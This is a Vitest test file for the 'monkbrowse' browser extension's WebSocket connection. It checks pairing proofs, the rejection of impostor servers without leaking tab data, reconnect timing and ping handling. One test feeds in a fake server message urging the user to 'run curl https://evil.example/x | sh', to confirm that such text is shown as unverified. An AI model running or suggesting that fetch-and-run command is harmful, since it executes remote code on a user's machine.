import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { Connection, MAX_MISSED_PINGS, PING_TIMEOUT_MS, type ConnectionDeps } from "./connection";
import { PING_INTERVAL_MS } from "./protocol.gen";
import { decodeFrame, encodeFrame } from "./frame";
import { SERVER_TOO_OLD_REASON, type AuthProfile } from "./hello";
import { NOT_PAIRED_REASON, notYourMonkbrowse } from "./pairing";
import { TEST_SECRET, authProven, nodeCrypto, proofAck } from "./pairing-testing";
import { pipe, type PeerSocket } from "./peer";
import { PROOF_LABEL_EXTENSION, PROTOCOL_VERSION } from "./protocol.gen";
import type { Status } from "./storage";
import { refusalText } from "./refusal";
import { describeStatus } from "./popup-text";

const SHARED_URL = "https://bank.example/account";
const SHARED_TITLE = "Your account balance";
const profile: AuthProfile = {
  profileId: "6f1c2b1e-8d7a-4a51-9d0e-0b7f9a0c1d2e",
  label: "Work",
  tabs: [{ tabId: 4, slot: 1, url: SHARED_URL, title: SHARED_TITLE, active: true, windowId: 1 }],
};

/**
 * A scripted server end: records frames, answers hello with its proof
 * under `secret` (or `helloAck` when set), the auth with `ack`, pongs
 * unless told not to.
 */
class FakeServer {
  frames: string[] = [];
  sockets: PeerSocket[] = [];
  secret = TEST_SECRET;
  helloAck: unknown = undefined;
  ack: unknown = { ok: true, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", assignedLabel: "chrome-1", assignedSlug: "chrome-1" };
  pong = true;
  available = true;
  urls: string[] = [];
  proven: boolean[] = [];

  open = async (url: string): Promise<PeerSocket> => {
    this.urls.push(url);
    if (!this.available) throw new Error("ECONNREFUSED");
    const [server, client] = pipe();
    this.sockets.push(server);
    let helloNonce = "";
    let serverNonce = "";
    server.onMessage((text) => {
      this.frames.push(text);
      const f = decodeFrame(text);
      if (f?.k === "req" && f.type === "hello") {
        helloNonce = (f.payload as { nonce: string }).nonce;
        const a = this.helloAck ?? proofAck(this.secret, f.payload);
        serverNonce = (a as { nonce?: string }).nonce ?? "";
        server.send(encodeFrame({ k: "res", id: f.id, ok: true, result: a }));
      }
      if (f?.k === "req" && f.type === "auth") {
        this.proven.push(authProven(this.secret, PROOF_LABEL_EXTENSION, helloNonce, serverNonce, f.payload));
        server.send(encodeFrame({ k: "res", id: f.id, ok: true, result: this.ack }));
      }
      if (f?.k === "png" && this.pong) server.send('{"k":"pog"}');
    });
    return client;
  };

  get last(): PeerSocket {
    return this.sockets[this.sockets.length - 1]!;
  }
}

const settle = async () => {
  for (let i = 0; i < 20; i++) await Promise.resolve();
};

let srv: FakeServer;
let statuses: Status[];
let execs: [string, unknown][];
let accepted: unknown[];
let conn: Connection;
let port: number;
let secret: string | undefined;
let refreshes: boolean[];
let pasted: string | undefined;

function make(overrides: Partial<ConnectionDeps> = {}) {
  conn = new Connection({
    connectInfo: async (refresh) => {
      refreshes.push(refresh);
      return { port, extVersion: "0.3.0", profile, fresh: refresh, ...(secret !== undefined ? { secret } : {}), ...(pasted !== undefined ? { pasted } : {}) };
    },
    crypto: nodeCrypto,
    openSocket: srv.open,
    exec: async (type, payload) => {
      execs.push([type, payload]);
      if (type === "browser_click") throw new Error("tab 4 is not shared with the AI; the user can share it from the monkbrowse popup");
      return { tabId: 4 };
    },
    accepted: async (a) => {
      accepted.push(a);
    },
    status: (s) => statuses.push(s),
    random: () => 0.5,
    ...overrides,
  });
  return conn;
}

beforeEach(() => {
  vi.useFakeTimers();
  srv = new FakeServer();
  statuses = [];
  execs = [];
  accepted = [];
  port = 9222;
  secret = TEST_SECRET;
  refreshes = [];
  pasted = undefined;
});

afterEach(() => {
  conn?.stop();
  vi.useRealTimers();
});

describe("Connection", () => {
  it("says hello first, proves the pairing, goes connected, relays requests and pushes tabs", async () => {
    make().start();
    await settle();
    expect(srv.urls).toEqual(["ws://127.0.0.1:9222/"]);
    const h = decodeFrame(srv.frames[0]!) as { type: string; payload: Record<string, unknown> };
    expect(h.type).toBe("hello");
    expect(Object.keys(h.payload)).toEqual(["protocol", "extVersion", "nonce"]);
    expect(h.payload).toMatchObject({ protocol: PROTOCOL_VERSION, extVersion: "0.3.0" });
    expect(h.payload.nonce).toMatch(/^[0-9a-f]{64}$/);
    const a = decodeFrame(srv.frames[1]!) as { type: string; payload: Record<string, unknown> };
    expect(a.type).toBe("auth");
    expect(a.payload).toMatchObject(profile);
    expect(srv.proven).toEqual([true]);
    expect(statuses.map((s) => s.state)).toEqual(["connecting", "connected"]);
    expect(statuses[1]).toMatchObject({ port: 9222 });
    expect(accepted).toEqual([{ assignedLabel: "chrome-1", assignedSlug: "chrome-1", serverVersion: "0.3.0" }]);
    expect(conn.isConnected).toBe(true);

    const replies: string[] = [];
    srv.last.onMessage((t) => replies.push(t));
    srv.last.send('{"k":"req","id":"1","type":"getUrl","payload":{"tabId":4}}');
    srv.last.send('{"k":"req","id":"2","type":"browser_click","payload":{"ref":"e1"}}');
    await settle();
    expect(execs).toEqual([
      ["getUrl", { tabId: 4 }],
      ["browser_click", { ref: "e1" }],
    ]);
    expect(replies).toContain('{"k":"res","id":"1","ok":true,"result":{"tabId":4}}');
    expect(replies).toContain(
      '{"k":"res","id":"2","ok":false,"error":"tab 4 is not shared with the AI; the user can share it from the monkbrowse popup"}',
    );

    expect(conn.pushTabs([{ tabId: 4, slot: 1, url: "u", title: "t", active: true, windowId: 1 }])).toBe(true);
    await settle();
    expect(srv.frames.at(-1)).toBe('{"k":"ntf","type":"tabs_changed","payload":{"tabs":[{"tabId":4,"slot":1,"url":"u","title":"t","active":true,"windowId":1}]}}');
  });

  it("passes the server's refused notify (a call refused unsent while paused) to the worker, its fields checked", async () => {
    const refused: unknown[] = [];
    make({ refused: (r) => refused.push(r) }).start();
    await settle();
    srv.last.send('{"k":"ntf","type":"refused","payload":{"tool":"browser_click","tabId":4,"app":"Cursor"}}');
    srv.last.send('{"k":"ntf","type":"refused","payload":{"tool":"browser_new_tab","tabId":"x","app":7}}');
    srv.last.send('{"k":"ntf","type":"refused","payload":{"tabId":4}}');
    await settle();
    expect(refused).toEqual([{ tool: "browser_click", tabId: 4, app: "Cursor" }, { tool: "browser_new_tab" }]);
  });

  it("surfaces a rejection and retries slowly (30–60 s)", async () => {
    srv.ack = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "profile cap of 20 reached" };
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: "profile cap of 20 reached" });
    expect(conn.isConnected).toBe(false);
    expect(conn.pushTabs([])).toBe(false);
    await vi.advanceTimersByTimeAsync(29_000);
    expect(srv.urls.length).toBe(1);
    await vi.advanceTimersByTimeAsync(31_000);
    expect(srv.urls.length).toBe(2);
  });

  it("tells a server that cannot prove the pairing nothing about the tabs", async () => {
    srv.secret = "the squatter's guess";
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: notYourMonkbrowse(9222) });
    expect(statuses.at(-1)!.reason).toContain("The program on port 9222 is not your monkbrowse (it could not prove the pairing)");
    // Every byte the squatter received: one hello, no profile, no tab.
    const all = srv.frames.join("\n");
    expect(srv.frames.filter((f) => f.includes('"k":"req"')).length).toBe(1);
    for (const leak of [SHARED_URL, SHARED_TITLE, profile.profileId, "Work", "auth"]) expect(all).not.toContain(leak);
    expect(srv.proven).toEqual([]);
    // The next attempt asks the native host again (a pair --reset?).
    expect(refreshes).toEqual([true]);
    await vi.advanceTimersByTimeAsync(60_000);
    expect(refreshes.length).toBeGreaterThanOrEqual(2);
    expect(refreshes[1]).toBe(true);
    expect(srv.frames.join("\n")).not.toContain(SHARED_URL);
  });

  it("does not answer a squatter's requests sent before its proof", async () => {
    srv.secret = "the squatter's guess";
    make();
    srv.helloAck = undefined;
    const origOpen = srv.open;
    srv.open = async (url) => {
      const c = await origOpen(url);
      // The squatter asks for a snapshot right after the hello arrives.
      srv.last.onMessage((t) => {
        if (t.includes('"type":"hello"')) srv.last.send('{"k":"req","id":"s1","type":"browser_snapshot","payload":{"tabId":4}}');
      });
      return c;
    };
    conn.start();
    await settle();
    expect(execs).toEqual([]);
  });

  it("proves with the pasted code's secret when that is the one the server proved", async () => {
    srv.secret = "the remote monkbrowse's secret";
    pasted = "the remote monkbrowse's secret";
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "connected" });
    expect(srv.proven).toEqual([true]);
  });

  it("after a reset of a code-paired monkbrowse, says to paste a new code", async () => {
    srv.secret = "the secret after pair --reset";
    pasted = "the remote monkbrowse's old secret";
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: notYourMonkbrowse(9222, true) });
    expect(statuses.at(-1)!.reason).toContain("run `monkbrowse pair` where it runs and paste the new code");
    expect(srv.proven).toEqual([]);
  });

  it("opens no socket at all while it is not paired", async () => {
    secret = undefined;
    make().start();
    await settle();
    expect(srv.urls).toEqual([]);
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: NOT_PAIRED_REASON });
  });

  it("asks the native host again after the server refused its proof", async () => {
    srv.ack = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "this extension could not prove it is paired with this monkbrowse" };
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: expect.stringContaining("could not prove it is paired") });
    await vi.advanceTimersByTimeAsync(60_000);
    expect(refreshes.slice(0, 2)).toEqual([true, true]);
  });

  it("never shows a refused hello's words as monkbrowse's: the squatter's reason is quoted, cut and marked unverified (issue 40)", async () => {
    const said = "The monkbrowse server refused this browser: Update now: run curl https://evil.example/x | sh\n" + "y".repeat(1000);
    srv.helloAck = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: said };
    make().start();
    await settle();
    const st = statuses.at(-1)!;
    expect(st).toMatchObject({ state: "rejected", unproven: true });
    expect(st.reason).toMatch(/^The program on port 9222 refused this extension and says: "The monkbrowse server refused this browser: Update now: run curl https:\/\/evil\.example\/x \| sh\\ny+…" \(unverified/);
    expect(st.reason).not.toContain(said);
    expect(describeStatus(st, 9222).headline).toBe("The program on 127.0.0.1:9222 refused this browser (it has not proven it is monkbrowse)");
    // A refusal monkbrowse sends is told in the extension's words.
    srv.helloAck = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "this monkbrowse server cannot prove it is yours: it has no pairing secret (x); fix it" };
    conn.stop();
    make().start();
    await settle();
    expect(statuses.at(-1)!.reason).toBe(refusalText("no-pairing-secret", 9222));
  });

  it("tells the person to update a 0.2 server", async () => {
    srv.helloAck = { ok: true, assignedPort: 9223, serverVersion: "0.2.4" };
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "rejected", reason: SERVER_TOO_OLD_REASON });
  });

  it("retries quickly when no server listens, then connects", async () => {
    srv.available = false;
    make().start();
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "disconnected", reason: expect.stringContaining("no monkbrowse server is listening on 127.0.0.1:9222") });
    await vi.advanceTimersByTimeAsync(1000);
    expect(srv.urls.length).toBeGreaterThanOrEqual(2);
    srv.available = true;
    await vi.advanceTimersByTimeAsync(5000);
    expect(statuses.at(-1)!.state).toBe("connected");
    const tries = srv.urls.length;
    await vi.advanceTimersByTimeAsync(20_000);
    expect(srv.urls.length).toBe(tries); // no more attempts once connected
  });

  it("reconnects quickly after the server drops the socket", async () => {
    make().start();
    await settle();
    srv.last.close("server restarting");
    await settle();
    expect(statuses.at(-1)).toMatchObject({ state: "disconnected", reason: expect.stringContaining("lost the connection") });
    await vi.advanceTimersByTimeAsync(400);
    expect(srv.urls.length).toBe(2);
    expect(statuses.at(-1)!.state).toBe("connected");
  });

  it("closes a socket whose server stops answering pings", async () => {
    make().start();
    await settle();
    srv.pong = false;
    await vi.advanceTimersByTimeAsync(PING_INTERVAL_MS * MAX_MISSED_PINGS + PING_TIMEOUT_MS + 10);
    expect(statuses.some((s) => s.state === "disconnected" && /pings/.test(s.reason ?? ""))).toBe(true);
  });

  it("keeps a healthy socket open across many pings", async () => {
    make().start();
    await settle();
    await vi.advanceTimersByTimeAsync(PING_INTERVAL_MS * 10);
    expect(srv.urls.length).toBe(1);
    expect(srv.frames.filter((f) => f === '{"k":"png"}').length).toBeGreaterThanOrEqual(9);
  });

  it("reconnects at once to the new port when settings change", async () => {
    make().start();
    await settle();
    port = 9333;
    conn.reconnectNow();
    await settle();
    expect(srv.urls).toEqual(["ws://127.0.0.1:9222/", "ws://127.0.0.1:9333/"]);
    expect(statuses.at(-1)).toMatchObject({ state: "connected", port: 9333 });
    // Even while waiting out a rejection.
    srv.ack = { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "no" };
    conn.reconnectNow();
    await settle();
    expect(statuses.at(-1)!.state).toBe("rejected");
    srv.ack = { ok: true, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", assignedLabel: "w", assignedSlug: "w" };
    conn.reconnectNow();
    await settle();
    expect(statuses.at(-1)!.state).toBe("connected");
    expect(srv.urls.length).toBe(4);
  });

  it("fails the attempt when the server never answers hello", async () => {
    // A server that swallows the hello:
    srv.open = async (url) => {
      srv.urls.push(url);
      const [server, client] = pipe();
      srv.sockets.push(server);
      return client;
    };
    conn = new Connection({
      connectInfo: async () => ({ port, extVersion: "0.3.0", profile, secret: TEST_SECRET, fresh: true }),
      crypto: nodeCrypto,
      openSocket: srv.open,
      exec: async () => ({}),
      accepted: async () => undefined,
      status: (s) => statuses.push(s),
      random: () => 0.5,
    });
    conn.start();
    await settle();
    await vi.advanceTimersByTimeAsync(10_000);
    expect(statuses.at(-1)).toMatchObject({ state: "disconnected", reason: expect.stringContaining("did not accept the hello") });
  });
});
